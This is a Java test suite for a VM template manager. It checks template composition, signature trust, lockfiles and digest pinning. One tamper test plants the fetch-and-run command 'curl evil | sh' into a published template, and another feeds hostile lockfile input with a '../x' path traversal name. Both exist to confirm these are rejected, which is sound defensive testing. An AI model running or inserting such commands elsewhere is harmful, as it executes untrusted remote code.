package io.vboxmcp.core.internal.manager;

import io.vboxmcp.CreateVmRequest;
import io.vboxmcp.ErrorCode;
import io.vboxmcp.LockResult;
import io.vboxmcp.SourceConfig;
import io.vboxmcp.TemplateRef;
import io.vboxmcp.TemplateValidationException;
import io.vboxmcp.VboxmcpException;
import io.vboxmcp.Vm;
import io.vboxmcp.VmManager;
import io.vboxmcp.VmPlan;
import io.vboxmcp.core.CoreKeys;
import io.vboxmcp.template.TemplateComponent;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/**
 * Composition through the real manager: templates in real folder sources, verified by the real trust policy,
 * resolved, merged and planned (and created on a recording driver with a stub SSH guest); lockfiles written, read
 * and enforced. The failure cases must leave nothing behind.
 */
class CompositionTest {
    @TempDir
    Path tmp;
    private Path home;
    private Path shelf;
    private RecordingHypervisorDriver driver;
    private StubGuestSsh guest;

    @BeforeEach
    void setUp() throws Exception {
        home = tmp.resolve("home");
        shelf = Files.createDirectories(tmp.resolve("shelf"));
        driver = new RecordingHypervisorDriver();
        guest = new StubGuestSsh(tmp.resolve("guest-hostkey"));
        driver.sshPort = guest.port();
        Path images = Files.createDirectories(tmp.resolve("images"));
        byte[] disk = "not really a disk".getBytes(StandardCharsets.UTF_8);
        Files.write(images.resolve("disk.qcow2"), disk);
        catalog(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(disk)));
        // the docs/templates.md example: a base, a feature and a template that uses both
        publish(shelf, "base-os", "1.2.3", """
                description: "the base"
                base_image: "test-image:1"
                min_ram: 4096
                packages:
                  system: [git, curl]
                scripts:
                  - name: base-setup
                    command: echo base > /tmp/base
                environment:
                  EDITOR: "vi"
                  LANG: "C.UTF-8"
                ports: [8000]
                metadata:
                  license: MIT
                """);
        publish(shelf, "tools", "1.0.0", """
                kind: feature
                packages:
                  system: [jq, git]
                scripts:
                  - name: tools-setup
                    command: echo tools > /tmp/tools
                environment:
                  TOOLS: "1"
                """);
        publish(shelf, "app", "1.0.0", """
                description: "the app"
                extends: ["base-os@^1.2"]
                requires:
                  - template: tools
                    version: "^1.0"
                min_ram: 1024
                packages:
                  system: [vim]
                scripts:
                  - name: app-setup
                    command: echo app > /tmp/app
                environment:
                  EDITOR: "nano"
                """);
    }

    @AfterEach
    void tearDown() throws IOException {
        guest.close();
    }

    private void catalog(String sha) throws IOException {
        byte[] disk = Files.readAllBytes(tmp.resolve("images/disk.qcow2"));
        Files.writeString(tmp.resolve("images/catalog.json"), "{\"catalogVersion\":1,\"images\":[{\"reference\":"
                + "\"test-image:1\",\"disk\":{\"url\":\"disk.qcow2\",\"format\":\"raw\",\"sha256\":\"" + sha
                + "\",\"size\":" + disk.length + "}}]}");
    }

    static Path publish(Path root, String name, String version, String body) throws IOException {
        Path dir = Files.createDirectories(root.resolve(name).resolve(version));
        Files.writeString(dir.resolve("template-definition.yaml"), "name: " + name + "\nversion: \"" + version + "\"\n"
                + body);
        return dir;
    }

    private VmManager manager(SourceConfig... extra) throws VboxmcpException {
        VmManager.Builder b = VmManager.builder().home(home).addDriver(driver.factory()).defaultDriver("recording")
                .addSource(new SourceConfig("shelf", shelf.toUri(), 0, Map.of()))
                .property(CoreKeys.IMAGE_CATALOG, tmp.resolve("images/catalog.json").toUri().toString())
                .property(CoreKeys.READY_TIMEOUT, "5");
        for (SourceConfig s : extra) {
            b.addSource(s);
        }
        return b.build();
    }

    private static CreateVmRequest request(String template) throws VboxmcpException {
        return CreateVmRequest.builder("vm1", TemplateRef.parse(template)).build();
    }

    private void assertNothingLeft() throws IOException {
        assertThat(driver.live).isEmpty();
        assertThat(home.resolve("vms/vm1")).doesNotExist();
        if (Files.exists(home.resolve("tmp"))) {
            try (Stream<Path> s = Files.list(home.resolve("tmp"))) {
                assertThat(s.toList()).as("no temporary files left").isEmpty();
            }
        }
    }

    @Test
    void plan_mergesBaseAndFeature_showingWhereEachFieldCameFrom() throws Exception {
        try (VmManager m = manager()) {
            VmPlan plan = m.plan(request("app@1.0.0"));
            assertThat(plan.template().baseImage()).isEqualTo("test-image:1");
            assertThat(plan.template().minRamMb()).isEqualTo(4096);
            assertThat(plan.memoryMb()).isEqualTo(4096);
            assertThat(plan.template().packages("system")).containsExactly("git", "curl", "jq", "vim");
            assertThat(plan.template().scripts()).extracting(s -> s.name())
                    .containsExactly("base-setup", "tools-setup", "app-setup");
            assertThat(plan.template().environment()).containsExactly(Map.entry("EDITOR", "nano"),
                    Map.entry("LANG", "C.UTF-8"), Map.entry("TOOLS", "1"));
            assertThat(plan.template().description()).isEqualTo("the app");
            assertThat(plan.template().metadata().license()).isEqualTo("MIT");
            assertThat(plan.components()).extracting(TemplateComponent::coordinates, TemplateComponent::role,
                    TemplateComponent::sourceId).containsExactly(
                    org.assertj.core.groups.Tuple.tuple("base-os@1.2.3", "extends", "shelf"),
                    org.assertj.core.groups.Tuple.tuple("tools@1.0.0", "requires", "shelf"));
            assertThat(plan.components()).allSatisfy(c -> assertThat(c.manifestDigest()).startsWith("sha256:"));
            assertThat(plan.describe()).contains("min_ram: 4096 (from base-os@1.2.3)",
                    "packages.system: jq (from tools@1.0.0)", "script: app-setup (from app@1.0.0)",
                    "environment.EDITOR (from app@1.0.0)", "base_image: test-image:1 (from base-os@1.2.3)",
                    "composed:  extends base-os@1.2.3 from shelf");
        }
    }

    @Test
    void definition_isTheComposedTemplate_withoutAPlanOrAnythingLeft() throws Exception {
        try (VmManager m = manager()) {
            io.vboxmcp.template.TemplateDefinition t = m.definition(TemplateRef.parse("app@1.0.0"));
            assertThat(t.coordinates()).isEqualTo("app@1.0.0");
            assertThat(t.baseImage()).as("from the base").isEqualTo("test-image:1");
            assertThat(t.scripts()).extracting(s -> s.name()).containsExactly("base-setup", "tools-setup", "app-setup");
            assertThat(driver.calls).as("no driver work").isEmpty();
            try (Stream<Path> left = Files.list(home.resolve("tmp"))) {
                assertThat(left).as("its work folder is gone").isEmpty();
            }
            assertThat(m.vms()).isEmpty();
        }
    }

    @Test
    void create_provisionsMergedScriptsBaseFirst_andRecordsTheCompose() throws Exception {
        try (VmManager m = manager()) {
            Vm vm = m.createFromTemplate(CreateVmRequest.builder("vm1", TemplateRef.parse("app@1.0.0"))
                    .memoryMb(4096).build());
            List<String> scripts = guest.commands.stream().filter(c -> c.contains("echo base > /tmp/base")
                    || c.contains("echo tools > /tmp/tools") || c.contains("echo app > /tmp/app")).toList();
            assertThat(scripts).hasSize(3);
            assertThat(scripts.get(0)).contains("/tmp/base");
            assertThat(scripts.get(1)).contains("/tmp/tools");
            assertThat(scripts.get(2)).contains("/tmp/app");
            assertThat(vm.plan().components()).hasSize(2);
            assertThat(Files.readAllLines(home.resolve("audit.log")).get(0)).contains("\"action\":\"vm.create\"",
                    "\"components\":\"base-os@1.2.3 sha256:", ", tools@1.0.0 sha256:");
            vm.destroy();
            assertNothingLeft();
        }
    }

    @Test
    void plan_refusesCycle_namingTheCycle() throws Exception {
        publish(shelf, "loop-a", "1.0.0", "extends: [\"loop-b@1\"]\n");
        publish(shelf, "loop-b", "1.0.0", "extends: [\"loop-c\"]\n");
        publish(shelf, "loop-c", "1.0.0", "base_image: \"test-image:1\"\nextends: [\"loop-a\"]\n");
        try (VmManager m = manager()) {
            assertThatThrownBy(() -> m.createFromTemplate(request("loop-a")))
                    .isInstanceOfSatisfying(VboxmcpException.class, e -> {
                        assertThat(e.code()).isEqualTo(ErrorCode.CONFLICT);
                        assertThat(e.step()).contains("compose");
                        assertThat(e.getMessage()).contains("template cycle: loop-a@1.0.0 → loop-b@1.0.0 → "
                                + "loop-c@1.0.0 → loop-a");
                    });
            assertNothingLeft();
        }
    }

    @Test
    void plan_conflict_explainsBothRequirementChains() throws Exception {
        publish(shelf, "tools", "2.0.0", "kind: feature\nscripts: [{name: tools-setup, command: echo two}]\n");
        publish(shelf, "base-new", "1.0.0", "base_image: \"test-image:1\"\nrequires: [\"tools@^2\"]\n");
        publish(shelf, "clash", "1.0.0", "extends: [\"base-new\"]\nrequires: [\"tools@^1.0\"]\n");
        try (VmManager m = manager()) {
            assertThatThrownBy(() -> m.plan(request("clash")))
                    .isInstanceOfSatisfying(VboxmcpException.class, e -> {
                        assertThat(e.code()).isEqualTo(ErrorCode.CONFLICT);
                        assertThat(e.getMessage()).contains("no single version of 'tools' satisfies every requirement",
                                "clash@1.0.0 → base-new@1.0.0 requires tools@^2",
                                "clash@1.0.0 requires tools@^1.0", "available: 1.0.0, 2.0.0");
                    });
        }
    }

    @Test
    void plan_samePieceRequiredTwice_isResolvedAndInstalledOnce() throws Exception {
        publish(shelf, "tools", "1.1.0", "kind: feature\nscripts: [{name: tools-setup, command: echo one-one}]\n");
        publish(shelf, "tools", "1.5.0", "kind: feature\nscripts: [{name: tools-setup, command: echo one-five}]\n");
        publish(shelf, "base-t", "1.0.0", "base_image: \"test-image:1\"\nrequires: [\"tools@>=1.0.0 <1.2.0\"]\n");
        publish(shelf, "twice", "1.0.0", "extends: [\"base-t\"]\nrequires: [\"tools@^1.0\"]\n");
        try (VmManager m = manager()) {
            VmPlan plan = m.plan(request("twice"));
            // the base's range, met first, picks 1.1.0; the template's ^1.0 accepts it: one version, once
            assertThat(plan.components()).extracting(TemplateComponent::coordinates)
                    .containsExactly("tools@1.1.0", "base-t@1.0.0");
            assertThat(plan.template().scripts()).extracting(s -> s.command()).containsExactly("echo one-one");
        }
    }

    @Test
    void plan_laterNarrowerRange_repicksOneVersionForAll() throws Exception {
        publish(shelf, "tools", "1.5.0", "kind: feature\nscripts: [{name: tools-setup, command: echo one-five}]\n");
        publish(shelf, "base-n", "1.0.0", "base_image: \"test-image:1\"\nrequires: [\"tools@^1\"]\n");
        publish(shelf, "narrow", "1.0.0", "extends: [\"base-n\"]\nrequires: [\"tools@~1.0\"]\n");
        try (VmManager m = manager()) {
            // the base is walked first and picks tools 1.5.0 for ^1; the template's ~1.0 re-picks 1.0.0 for both
            VmPlan plan = m.plan(request("narrow"));
            assertThat(plan.components()).extracting(TemplateComponent::coordinates)
                    .containsExactly("tools@1.0.0", "base-n@1.0.0");
        }
    }

    @Test
    void plan_refusesTooDeepChain() throws Exception {
        publish(shelf, "deep-0", "1.0.0", "base_image: \"test-image:1\"\n");
        for (int i = 1; i <= 12; i++) {
            publish(shelf, "deep-" + i, "1.0.0", "extends: [\"deep-" + (i - 1) + "\"]\n");
        }
        try (VmManager m = manager()) {
            assertThatThrownBy(() -> m.plan(request("deep-12")))
                    .isInstanceOfSatisfying(VboxmcpException.class, e -> {
                        assertThat(e.code()).isEqualTo(ErrorCode.RESOURCE_LIMIT);
                        assertThat(e.getMessage()).contains("deeper than 8 levels", "deep-12@1.0.0 → deep-11@1.0.0");
                    });
        }
    }

    @Test
    void plan_refusesHugeMerge() throws Exception {
        String big = "x".repeat(60_000);
        StringBuilder bases = new StringBuilder();
        for (int i = 0; i < 6; i++) {
            StringBuilder env = new StringBuilder("environment:\n");
            for (int k = 0; k < 3; k++) {
                env.append("  V").append(i).append('_').append(k).append(": \"").append(big).append("\"\n");
            }
            // a diamond: every fat base extends fat-0, which is merged once
            publish(shelf, "fat-" + i, "1.0.0", (i == 0 ? "base_image: \"test-image:1\"\n" : "extends: [fat-0]\n")
                    + env);
            bases.append(i == 0 ? "" : ", ").append("\"fat-").append(i).append('"');
        }
        publish(shelf, "obese", "1.0.0", "extends: [" + bases + "]\n");
        try (VmManager m = manager()) {
            assertThatThrownBy(() -> m.plan(request("obese")))
                    .isInstanceOfSatisfying(VboxmcpException.class, e -> {
                        assertThat(e.code()).isEqualTo(ErrorCode.RESOURCE_LIMIT);
                        assertThat(e.getMessage()).contains("more than the 1048576 allowed");
                    });
        }
    }

    @Test
    void plan_refusesFeatureUnderExtends_andTemplateUnderRequires() throws Exception {
        publish(shelf, "wrong-1", "1.0.0", "extends: [\"tools\"]\nbase_image: \"test-image:1\"\n");
        publish(shelf, "wrong-2", "1.0.0", "base_image: \"test-image:1\"\nrequires: [\"base-os\"]\n");
        try (VmManager m = manager()) {
            assertThatThrownBy(() -> m.plan(request("wrong-1"))).isInstanceOfSatisfying(
                    TemplateValidationException.class, e -> assertThat(e.getMessage())
                            .contains("tools@1.0.0 is a feature (kind: feature): list it under requires"));
            assertThatThrownBy(() -> m.plan(request("wrong-2"))).isInstanceOfSatisfying(
                    TemplateValidationException.class, e -> assertThat(e.getMessage())
                            .contains("base-os@1.2.3 is not a feature"));
            assertThatThrownBy(() -> m.createFromTemplate(request("tools"))).isInstanceOfSatisfying(
                    TemplateValidationException.class, e -> {
                        assertThat(e.getMessage()).contains("tools@1.0.0 is a feature (kind: feature)");
                        assertThat(e.step()).contains("compose");
                    });
            assertNothingLeft();
        }
    }

    @Test
    void create_baseFromUntrustedSourceFails_andLeavesNothing() throws Exception {
        Path vendor = Files.createDirectories(tmp.resolve("vendor"));
        publish(vendor, "vendor-base", "1.0.0", "base_image: \"test-image:1\"\n");  // unsigned
        publish(shelf, "on-vendor", "1.0.0", "extends: [\"vendor-base\"]\n");
        Path key = DenyRecordsTest.sshKey(tmp, "vendor-key");
        try (VmManager m = manager(new SourceConfig("vendor", vendor.toUri(), 1, Map.of()))) {
            m.trust().add("vendor", Path.of(key + ".pub"));  // pinned: that source must be signed from now on
            assertThatThrownBy(() -> m.createFromTemplate(request("on-vendor")))
                    .isInstanceOfSatisfying(VboxmcpException.class, e -> {
                        assertThat(e.code()).isEqualTo(ErrorCode.UNTRUSTED);
                        assertThat(e.step()).contains("compose");
                        assertThat(e.getMessage()).contains("vendor-base@1.0.0", "not signed");
                    });
            assertNothingLeft();
            List<String> audit = Files.readAllLines(home.resolve("audit.log"));
            assertThat(audit.get(audit.size() - 1)).contains("\"action\":\"vm.create\"", "\"outcome\":\"deny\"",
                    "\"step\":\"compose\"");
            // signed by the pinned key, the same base is accepted
            m.publisher().writeManifest(vendor.resolve("vendor-base/1.0.0"), "vendor-base",
                    io.vboxmcp.SemanticVersion.parse("1.0.0"));
            m.publisher().signSsh(vendor.resolve("vendor-base/1.0.0"), key, null);
            VmPlan plan = m.plan(request("on-vendor"));
            assertThat(plan.components()).singleElement().satisfies(c -> {
                assertThat(c.sourceId()).isEqualTo("vendor");
                assertThat(c.signer()).startsWith("SHA256:");
            });
        }
    }

    // ------------------------------------------------------------------ lockfiles

    private Path appFolder() throws IOException {
        // the template under development: a folder outside every source
        return Files.createDirectories(tmp.resolve("work/app")).resolve("..").resolve("app").normalize();
    }

    private Path writeApp() throws IOException {
        Path dir = appFolder();
        Files.writeString(dir.resolve("template-definition.yaml"), Files.readString(shelf.resolve(
                "app/1.0.0/template-definition.yaml")));
        return dir;
    }

    @Test
    void lock_writesEveryResolvedTemplate_andAnUnchangedLockIsByteIdentical() throws Exception {
        Path app = writeApp();
        try (VmManager m = manager()) {
            LockResult first = m.lock(app, false);
            assertThat(first.changes()).containsExactly("new lockfile");
            String text = Files.readString(app.resolve("vboxmcp.lock"));
            assertThat(text).isEqualTo(first.content()).contains("\"lockfile_version\": 1", "\"template\": \"app\"",
                    "\"name\": \"base-os\"", "\"version\": \"1.2.3\"", "\"role\": \"extends\"", "\"source\": \"shelf\"",
                    "\"name\": \"tools\"", "\"role\": \"requires\"", "\"reference\": \"test-image:1\"",
                    "\"digest\": \"sha256:");
            assertThat(text.indexOf("base-os")).isLessThan(text.indexOf("\"tools\""));
            byte[] before = Files.readAllBytes(app.resolve("vboxmcp.lock"));
            LockResult again = m.lock(app, false);
            assertThat(again.changes()).isEmpty();
            assertThat(Files.readAllBytes(app.resolve("vboxmcp.lock"))).isEqualTo(before);
            LockResult updated = m.lock(app, true);
            assertThat(updated.changes()).isEmpty();
            assertThat(Files.readAllBytes(app.resolve("vboxmcp.lock"))).isEqualTo(before);
        }
    }

    @Test
    void frozen_outdatedLockFails_listingTheDifference_devcontainersCli1273() throws Exception {
        Path app = writeApp();
        try (VmManager m = manager()) {
            m.lock(app, false);
            Path lock = app.resolve("vboxmcp.lock");
            CreateVmRequest frozen = CreateVmRequest.builder("vm1", TemplateRef.parse("app@1.0.0")).lockFile(lock)
                    .frozen(true).build();
            assertThat(m.plan(frozen).components()).hasSize(2);  // up to date: frozen passes
            publish(shelf, "base-os", "1.3.0", "base_image: \"test-image:1\"\n");  // a newer base appears
            assertThatThrownBy(() -> m.plan(frozen)).isInstanceOfSatisfying(VboxmcpException.class, e -> {
                assertThat(e.code()).isEqualTo(ErrorCode.CONFLICT);
                assertThat(e.getMessage()).contains("the lockfile is outdated",
                        "base-os: resolves to newer version 1.3.0, the lock has 1.2.3");
            });
            assertThatThrownBy(() -> m.createFromTemplate(frozen)).isInstanceOf(VboxmcpException.class);
            assertNothingLeft();
            // not frozen, the lock keeps the base at 1.2.3
            VmPlan locked = m.plan(CreateVmRequest.builder("vm1", TemplateRef.parse("app@1.0.0")).lockFile(lock)
                    .build());
            assertThat(locked.components()).extracting(TemplateComponent::coordinates).contains("base-os@1.2.3");
            // and 'update' moves it, listing the change
            LockResult u = m.lock(app, true);
            assertThat(u.changes()).containsExactly("base-os: resolves to newer version 1.3.0, the lock has 1.2.3");
            assertThat(m.plan(frozen).components()).extracting(TemplateComponent::coordinates)
                    .contains("base-os@1.3.0");
        }
    }

    @Test
    void frozen_missingAndExtraEntriesAndNoLockFail() throws Exception {
        Path app = writeApp();
        try (VmManager m = manager()) {
            m.lock(app, false);
            Path lock = app.resolve("vboxmcp.lock");
            String text = Files.readString(lock);
            Files.writeString(lock, text.replace("\"name\": \"tools\"", "\"name\": \"tools-gone\""));
            assertThatThrownBy(() -> m.plan(CreateVmRequest.builder("vm1", TemplateRef.parse("app@1.0.0"))
                    .lockFile(lock).frozen(true).build())).isInstanceOfSatisfying(VboxmcpException.class, e ->
                    assertThat(e.getMessage()).contains("tools: missing from the lock (resolves to 1.0.0 from shelf)",
                            "tools-gone: extra entry in the lock"));
            assertThatThrownBy(() -> m.plan(CreateVmRequest.builder("vm1", TemplateRef.parse("app@1.0.0"))
                    .frozen(true).build())).isInstanceOfSatisfying(VboxmcpException.class, e -> {
                        assertThat(e.code()).isEqualTo(ErrorCode.CONFLICT);
                        assertThat(e.getMessage()).contains("frozen mode needs a lockfile");
                    });
        }
    }

    @Test
    void locked_tamperedDependencyFails_evenWithoutFrozen() throws Exception {
        Path app = writeApp();
        try (VmManager m = manager()) {
            m.lock(app, false);
            Path lock = app.resolve("vboxmcp.lock");
            // the base is re-published under the same version with other content
            Files.writeString(shelf.resolve("base-os/1.2.3/template-definition.yaml"), Files.readString(
                    shelf.resolve("base-os/1.2.3/template-definition.yaml")).replace("echo base", "curl evil | sh"));
            assertThatThrownBy(() -> m.createFromTemplate(CreateVmRequest.builder("vm1",
                    TemplateRef.parse("app@1.0.0")).lockFile(lock).build()))
                    .isInstanceOfSatisfying(VboxmcpException.class, e -> {
                        assertThat(e.code()).isEqualTo(ErrorCode.DIGEST_MISMATCH);
                        assertThat(e.step()).contains("compose");
                        assertThat(e.getMessage()).contains("base-os@1.2.3 from shelf has manifest digest",
                                "but the lockfile pins");
                    });
            assertNothingLeft();
            assertThat(guest.commands).noneMatch(c -> c.contains("evil"));
        }
    }

    @Test
    void locked_tamperedLockDigestFails() throws Exception {
        Path app = writeApp();
        try (VmManager m = manager()) {
            m.lock(app, false);
            Path lock = app.resolve("vboxmcp.lock");
            String text = Files.readString(lock);
            int at = text.indexOf("\"digest\": \"sha256:", text.indexOf("\"name\": \"tools\"")) + 18;
            Files.writeString(lock, text.substring(0, at) + "0".repeat(64) + text.substring(at + 64));
            assertThatThrownBy(() -> m.plan(CreateVmRequest.builder("vm1", TemplateRef.parse("app@1.0.0"))
                    .lockFile(lock).build())).isInstanceOfSatisfying(VboxmcpException.class, e -> {
                        assertThat(e.code()).isEqualTo(ErrorCode.DIGEST_MISMATCH);
                        assertThat(e.getMessage()).contains("tools@1.0.0");
                    });
        }
    }

    @Test
    void locked_baseImageDigestPinned() throws Exception {
        Path app = writeApp();
        try (VmManager m = manager()) {
            m.lock(app, false);
        }
        // the catalog now serves other bytes under the same reference (with their own, matching digest)
        byte[] other = "another disk".getBytes(StandardCharsets.UTF_8);
        Files.write(tmp.resolve("images/disk.qcow2"), other);
        catalog(HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(other)));
        try (VmManager m = manager()) {
            assertThatThrownBy(() -> m.createFromTemplate(CreateVmRequest.builder("vm1",
                    TemplateRef.parse("app@1.0.0")).lockFile(app.resolve("vboxmcp.lock")).build()))
                    .isInstanceOfSatisfying(VboxmcpException.class, e -> {
                        assertThat(e.code()).isEqualTo(ErrorCode.DIGEST_MISMATCH);
                        assertThat(e.step()).contains("image");
                        assertThat(e.getMessage()).contains("base image test-image:1 has digest");
                    });
            assertNothingLeft();
        }
    }

    @Test
    void lockfile_hostileContentRefused() throws Exception {
        Path lock = tmp.resolve("evil.lock");
        try (VmManager m = manager()) {
            for (String bad : List.of("[]", "{\"lockfile_version\": 1, \"template\": \"app\", \"templates\": [],"
                            + " \"extra\": 1}", "{\"lockfile_version\": 2, \"template\": \"app\", \"templates\": []}",
                    "{\"lockfile_version\": 1, \"template\": \"app\", \"templates\": [{\"name\": \"../x\", "
                            + "\"version\": \"1.0.0\", \"role\": \"extends\", \"source\": \"s\", \"digest\": \"x\"}]}",
                    "{" + "\"a\":".repeat(10) + "1" + "}".repeat(10), "x".repeat(70_000))) {
                Files.writeString(lock, bad);
                assertThatThrownBy(() -> m.plan(CreateVmRequest.builder("vm1", TemplateRef.parse("app@1.0.0"))
                        .lockFile(lock).build())).isInstanceOfSatisfying(VboxmcpException.class, e -> {
                            assertThat(e.code()).isEqualTo(ErrorCode.INVALID_ARGUMENT);
                            assertThat(e.getMessage()).contains("lockfile " + lock + ": ");
                        });
            }
        }
    }
}
